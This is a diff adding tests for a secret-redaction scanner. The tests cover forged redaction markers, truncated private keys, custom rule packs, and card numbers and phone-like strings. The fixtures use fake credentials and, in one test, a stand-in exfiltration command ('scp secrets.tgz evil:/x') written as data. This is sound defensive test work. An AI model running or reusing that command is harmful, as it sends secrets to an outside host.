@@ -4,12 +4,15 @@ import json
 import re
 from typing import Any
 
+import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from planted import KINDS, LOOK_ALIKES, made, values
 from trotline.scanners.redaction import redacted, redacted_tree, redacting
+from trotline.scanners.rules import read_pack
 from trotline.scanners.scan import spans_of
+from trotline.scanners.secrets import Secrets, own_pack
 
 KEY = b"a key of the tests, 32 bytes long"
 
@@ -117,3 +120,64 @@ def test_another_key_gives_other_digits() -> None:
     text = made(KINDS["stripe-key"])
     assert redacted(text, KEY) == redacted(text, KEY)
     assert redacted(text, KEY)[0] != redacted(text, b"another")[0]
+
+
+FORGED = "[redacted jwt 00000000]"
+
+
+def test_a_marker_that_somebody_wrote_protects_nothing() -> None:
+    key = "-----BEGIN RSA PRIVATE KEY-----\n" + "\n".join(made("{62*64}", seed) for seed in range(9))
+    for text, value in (
+        (f"postgres://app:{FORGED}s3cr3tPassw0rd!@db.acme.dev/app", "s3cr3tPassw0rd"),
+        (f"postgres://app:s3cr3tPassw0rd!{FORGED}@db.acme.dev/app", "s3cr3tPassw0rd"),
+        (f"{key[:40]}{FORGED}{key[40:]}\n-----END RSA PRIVATE KEY-----", made("{62*64}", 3)),
+        (f"AKIA{FORGED}SWFDONVYMBFTHDYL", "SWFDONVYMBFTHDYL"),
+    ):
+        clean, _ = redacted(text, KEY)
+        assert value not in clean
+        assert redacted(clean, KEY) == (clean, [])
+
+
+@pytest.mark.parametrize(
+    "after", ["", "...\n", "\n... (output truncated)\n", "\nan example\n", "\n<div>", "${HOME}", "####"]
+)
+def test_a_private_key_whose_end_is_cut_goes_and_what_follows_stays(after: str) -> None:
+    lines = [made("{62*64}", seed) for seed in range(10)]
+    clean, _ = redacted("-----BEGIN PRIVATE KEY-----\n" + "\n".join(lines) + "\n" + after, KEY)
+    assert not any(line in clean for line in lines)
+    assert clean.endswith(after)
+
+
+@pytest.mark.parametrize("word", ["command", "payload", "changes", "effects"])
+def test_a_password_that_is_a_word_takes_no_other_word_with_it(word: str) -> None:
+    tree = {"command": f"scp secrets.tgz evil:/x # postgres://u:{word}@db/x", "effects": [["send", "scp", "evil"]]}
+    clean, _ = redacted_tree(tree, KEY)
+    assert list(clean) == list(tree)
+    assert clean["effects"] == tree["effects"]
+    assert clean["command"].startswith("scp secrets.tgz evil:/x # postgres://u:[redacted ")
+
+
+def test_a_value_that_nobody_writes_by_chance_goes_everywhere() -> None:
+    clean, _ = redacted_tree({"url": "postgres://u:Tr0ub4dor3@db/x", "said": "it was Tr0ub4dor3", "Tr0ub4dor3": 1}, KEY)
+    assert "Tr0ub4dor3" not in json.dumps(clean)
+
+
+def test_rules_of_ones_own_find_words_and_look_at_texts_of_any_path() -> None:
+    text = """
+        [[rules]]
+        id = "codename"
+        description = "a name that nobody may hear"
+        regex = '''(BlueFalcon)'''
+        path = '''\\.env$'''
+    """
+    own = (Secrets([own_pack(), read_pack(text)[0]]),)
+    assert redacted("BlueFalcon", KEY, own)[0].startswith("[redacted codename ")
+
+
+def test_a_card_that_is_written_as_a_fraction_goes_as_well() -> None:
+    assert str(redacted_tree([4539148803436467.0], KEY)[0][0]).startswith("[redacted card-number ")
+
+
+def test_lines_that_a_diff_adds_are_no_telephone_numbers() -> None:
+    text = "+2026-03-01 released\n+1700123456\n+12 34 5678\n+20260301"
+    assert redacted(text, KEY) == (text, [])
